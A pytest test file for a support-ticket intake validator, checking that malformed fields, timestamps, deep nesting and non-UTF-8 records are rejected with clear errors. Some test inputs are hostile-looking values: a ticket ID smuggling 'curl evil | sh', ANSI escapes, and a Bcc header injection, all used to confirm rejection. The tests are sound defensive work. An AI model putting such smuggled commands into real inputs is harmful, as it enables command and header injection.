"""Bad input is rejected with the ticket and field named; good tickets still go through."""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path

import pytest

from supportgraph.graph.errors import TicketFileError
from supportgraph.tools.tickets.intake import read_tickets, validate_records

from .conftest import NOW, SAMPLES


def _records() -> list[dict[str, object]]:
    return json.loads(SAMPLES.read_text())


def _only_error(record: dict[str, object]) -> str:
    intake = validate_records([record], NOW)
    assert not intake.tickets
    assert len(intake.errors) == 1
    return str(intake.errors[0])


def test_relative_timestamps_are_resolved_against_now() -> None:
    intake = validate_records(_records(), NOW)
    by_id = {t.ticket_id: t for t in intake.tickets}
    assert by_id["SUPPORT-001"].submitted_at == NOW - timedelta(minutes=30)
    assert by_id["SUPPORT-003"].submitted_at == NOW - timedelta(hours=2)


def test_declared_labels_are_kept_apart_from_triage() -> None:
    ticket = validate_records(_records(), NOW).tickets[0]
    assert (ticket.declared_priority, ticket.declared_category) == ("Critical", "Technical")


@pytest.mark.parametrize(
    ("change", "field", "words"),
    [
        ({"message": "   "}, "message", "empty"),
        ({"customer_tier": "Platinum"}, "customer_tier", "Platinum"),
        ({"channel": "Pigeon"}, "channel", "Pigeon"),
        ({"submitted_at": "2026-11-25T09:00:00"}, "submitted_at", "timezone"),
        ({"submitted_at": "2026-12-25T09:00:00+00:00"}, "submitted_at", "future"),
        ({"submitted_at": "yesterday"}, "submitted_at", "ISO-8601"),
        ({"priority": "Urgent"}, "priority", "Urgent"),
        ({"colour": "red"}, "colour", "unknown field"),
    ],
    ids=[
        "empty-message",
        "unknown-tier",
        "unknown-channel",
        "naive-time",
        "future-time",
        "unparseable-time",
        "bad-declared-priority",
        "unknown-field",
    ],
)
def test_invalid_field_names_ticket_and_field(
    change: dict[str, object], field: str, words: str
) -> None:
    record = _records()[0] | change
    message = _only_error(record)
    assert "SUPPORT-001" in message
    assert repr(field) in message
    assert words in message


def test_missing_required_field_is_named() -> None:
    record = _records()[1]
    del record["customer"]
    assert _only_error(record) == "ticket SUPPORT-002: field 'customer': required field is missing"


def test_bad_ticket_does_not_stop_the_good_ones() -> None:
    records = _records()
    records[2]["channel"] = "Fax"
    intake = validate_records(records, NOW)
    assert [t.ticket_id for t in intake.tickets] == [
        "SUPPORT-001",
        "SUPPORT-002",
        "SUPPORT-004",
        "SUPPORT-005",
    ]
    assert [e.ticket_id for e in intake.errors] == ["SUPPORT-003"]


def test_duplicate_ids_keep_the_first(tmp_path: Path) -> None:
    records = _records()[:2]
    records[1]["ticket_id"] = "SUPPORT-001"
    intake = validate_records(records, NOW)
    assert len(intake.tickets) == 1
    assert "duplicate" in str(intake.errors[0])


def test_invalid_json_file_names_the_line(tmp_path: Path) -> None:
    path = tmp_path / "broken.json"
    path.write_text('[{"ticket_id": "A",\n "customer": }]')
    with pytest.raises(TicketFileError, match=r"broken.json: invalid JSON at line 2"):
        read_tickets(path, NOW)


def test_jsonl_bad_line_is_reported_and_the_rest_read(tmp_path: Path) -> None:
    path = tmp_path / "tickets.jsonl"
    lines = [json.dumps(r) for r in _records()[:2]]
    path.write_text(lines[0] + "\n{not json\n" + lines[1] + "\n")
    intake = read_tickets(path, NOW)
    assert [t.ticket_id for t in intake.tickets] == ["SUPPORT-001", "SUPPORT-002"]
    assert "line 2" in str(intake.errors[0])


def test_missing_file_says_so(tmp_path: Path) -> None:
    with pytest.raises(TicketFileError, match="does not exist"):
        read_tickets(tmp_path / "nope.json", NOW)


def _one(change: dict[str, object]) -> tuple[list[str], list[str], list[str]]:
    """Validate the first sample with ``change``: accepted ids, errors, notes."""
    intake = validate_records([_records()[0] | change], NOW)
    return [t.ticket_id for t in intake.tickets], [str(e) for e in intake.errors], intake.notes


@pytest.mark.parametrize(
    ("ticket_id", "words"),
    [
        ("[/]x", "'[' (U+005B) at position 1"),
        ("T6; curl evil | sh", "';' (U+003B) at position 3"),
        ("T\x1b[31m", "a control character (U+001B) at position 2"),
        ("T-1\n# heading", "a control character (U+000A) at position 4"),
        ("   ", "blank"),
        ("x" * 100_000, "100,000 characters long; at most 128"),
        ("-rf", "must start with a letter or digit"),
        ("a/b", "'/' (U+002F)"),
    ],
    ids=["rich-markup", "shell", "ansi", "newline", "blank", "huge", "option-like", "slash"],
)
def test_unsafe_ticket_ids_are_rejected_naming_the_character(ticket_id: str, words: str) -> None:
    accepted, errors, _ = _one({"ticket_id": ticket_id})
    assert accepted == []
    assert words in errors[0]
    assert errors[0].startswith("ticket #1: field 'ticket_id'")  # the bad id is never echoed
    assert len(errors[0]) < 200


def test_plain_ids_with_colons_and_unicode_letters_are_kept_as_they_are() -> None:
    for ticket_id in ("acme:T1", "ZD#1234", "jira.SUP-12@eu", "Ticket_Ä-7"):
        assert _one({"ticket_id": ticket_id})[0] == [ticket_id]


def test_tenant_follows_the_id_rules() -> None:
    accepted, errors, _ = _one({"tenant": "acme corp"})
    assert accepted == [] and "tenant has ' ' (U+0020)" in errors[0]


def test_control_characters_in_subject_and_name_are_removed_with_a_note() -> None:
    change = {
        "subject": "Refund\r\nBcc: attacker@example.com",
        "customer": "\x1b[31mACME\x1b[0m Ltd",
    }
    intake = validate_records([_records()[0] | change], NOW)
    ticket = intake.tickets[0]
    assert ticket.subject == "Refund Bcc: attacker@example.com"
    assert ticket.customer == "ACME Ltd"
    assert intake.notes == [
        "ticket SUPPORT-001: subject: control characters removed",
        "ticket SUPPORT-001: customer: control characters removed",
    ]


def test_unpaired_surrogate_becomes_a_replacement_character() -> None:
    intake = validate_records([_records()[0] | {"message": "broken emoji \ud800 here"}], NOW)
    assert intake.tickets[0].message == "broken emoji \ufffd here"
    assert intake.notes == [
        "ticket SUPPORT-001: message: 1 unpaired surrogate(s) replaced with U+FFFD"
    ]


def test_message_keeps_its_line_breaks_and_tabs() -> None:
    intake = validate_records([_records()[0] | {"message": "line 1\r\n\tline 2\x07"}], NOW)
    assert intake.tickets[0].message == "line 1\n\tline 2"


def test_long_subject_is_cut_with_a_note() -> None:
    intake = validate_records([_records()[0] | {"subject": "s" * 1_000_000}], NOW)
    subject = intake.tickets[0].subject
    assert len(subject) == 300 and subject.endswith("…")
    assert intake.notes == ["ticket SUPPORT-001: subject cut from 1,000,000 to 300 characters"]


def test_customer_name_is_bounded() -> None:
    _, errors, _ = _one({"customer": "n" * 201})
    assert "customer name is 201 characters long; at most 200" in errors[0]


@pytest.mark.parametrize(
    ("submitted_at", "words"),
    [
        ("-999999d", "further from now than any calendar date"),
        ("-99999999999w", "too long a duration"),
        ("1999-12-31T23:00:00+00:00", "more than 5 years ago"),
        ("-2000d", "more than 5 years ago"),
        ("9999-12-31T23:59:59-14:00", "in the future"),
    ],
    ids=["days-overflow", "weeks-overflow", "last-century", "relative-too-old", "year-9999"],
)
def test_timestamps_outside_the_window_name_the_field(submitted_at: str, words: str) -> None:
    _, errors, _ = _one({"submitted_at": submitted_at})
    assert "field 'submitted_at'" in errors[0] and words in errors[0]


def _good_lines(*ids: str) -> list[str]:
    return [json.dumps(_records()[1] | {"ticket_id": i}) for i in ids]


def test_deep_nesting_in_jsonl_rejects_only_that_line(tmp_path: Path) -> None:
    path = tmp_path / "tickets.jsonl"
    good = _good_lines("A", "B")
    path.write_text(good[0] + "\n" + "[" * 200_000 + "]" * 200_000 + "\n" + good[1] + "\n")
    intake = read_tickets(path, NOW)
    assert [t.ticket_id for t in intake.tickets] == ["A", "B"]
    assert "line 2" in str(intake.errors[0]) and "200,000 levels deep" in str(intake.errors[0])


def test_deep_nesting_in_a_json_list_rejects_only_that_record(tmp_path: Path) -> None:
    path = tmp_path / "tickets.json"
    good = _good_lines("A", "B")
    deep = '{"message": ' + "[" * 200_000 + "]" * 200_000 + "}"
    path.write_text("[" + good[0] + ",\n" + deep + ",\n" + good[1] + "]")
    intake = read_tickets(path, NOW)
    assert [t.ticket_id for t in intake.tickets] == ["A", "B"]
    assert str(intake.errors[0]).startswith("ticket #2 (line 2)")


@pytest.mark.parametrize("suffix", ["jsonl", "json"])
def test_a_record_that_is_not_utf8_is_rejected_alone(tmp_path: Path, suffix: str) -> None:
    good = [line.encode() for line in _good_lines("A", "B")]
    bad = b'{"ticket_id": "C", "message": "caf\xe9"}'
    if suffix == "jsonl":
        data = good[0] + b"\n" + bad + b"\n" + good[1] + b"\n"
    else:
        data = b"[" + good[0] + b",\n" + bad + b",\n" + good[1] + b"]"
    path = tmp_path / f"tickets.{suffix}"
    path.write_bytes(data)
    intake = read_tickets(path, NOW)
    assert [t.ticket_id for t in intake.tickets] == ["A", "B"]
    assert "not UTF-8 text (byte 0xe9" in str(intake.errors[0])


def test_a_json_object_instead_of_a_list_says_what_it_holds(tmp_path: Path) -> None:
    path = tmp_path / "tickets.json"
    path.write_text(json.dumps({"tickets": _records()}, indent=2))
    with pytest.raises(TicketFileError, match=r"holds one JSON object \(keys: tickets\)"):
        read_tickets(path, NOW)


def test_a_folder_given_as_the_ticket_file_says_so(tmp_path: Path) -> None:
    with pytest.raises(TicketFileError, match="is a folder; pass a JSON or JSONL file"):
        read_tickets(tmp_path, NOW)


def test_same_id_in_two_tenants_is_not_a_duplicate() -> None:
    records = [_records()[0] | {"tenant": "acme"}, _records()[0] | {"tenant": "globex"}]
    assert len(validate_records(records, NOW).tickets) == 2
